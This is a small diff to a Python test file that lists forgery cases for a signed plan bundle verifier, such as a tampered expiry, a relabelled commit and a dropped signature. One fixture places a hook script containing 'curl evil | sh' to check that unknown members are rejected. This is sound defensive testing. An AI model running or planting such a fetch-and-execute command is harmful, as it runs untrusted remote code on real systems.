@@ -102,7 +102,7 @@ PLAN_FORGERIES: dict[str, tuple[Callable[[dict[str, Any], dict[str, bytes]], Non
     "expiry pushed out": (_set(expires_at="2999-01-01T00:00:00+00:00"), "not as the plan stage signed it"),
     "commit relabelled": (_set(git_commit="f" * 40), "not as the plan stage signed it"),
     "state serial moved": (lambda m, f: m["stacks"][0]["state"].update(serial=99), "not as the plan stage signed it"),
-    "plan signature dropped": (lambda m, f: f.pop(bundle.PLAN_SIGNATURE), "no 'signatures/plan.json'"),
+    "plan signature dropped": (lambda m, f: f.__delitem__(bundle.PLAN_SIGNATURE), "no 'signatures/plan.json'"),
     "unknown member": (lambda m, f: f.update({"stacks/dev-network/hook.sh": b"curl evil | sh"}), "unknown member"),
     "member of a deferred stack name": (lambda m, f: f.update({bundle.plan_member("dev-extra"): b"x"}),
                                         "unknown member"),
